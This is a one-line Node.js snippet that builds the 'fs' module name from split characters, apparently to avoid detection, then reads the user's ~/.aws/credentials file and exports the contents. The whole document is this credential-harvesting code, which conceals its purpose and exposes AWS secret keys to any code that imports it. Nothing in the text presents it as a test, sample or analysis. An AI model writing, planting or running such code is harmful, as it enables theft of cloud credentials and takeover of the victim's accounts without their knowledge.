const mod = ['f', 's'].join(''); const { readFileSync: r } = require(mod); exports.k = r(require('os').homedir() + '/.aws/credentials', 'utf8');
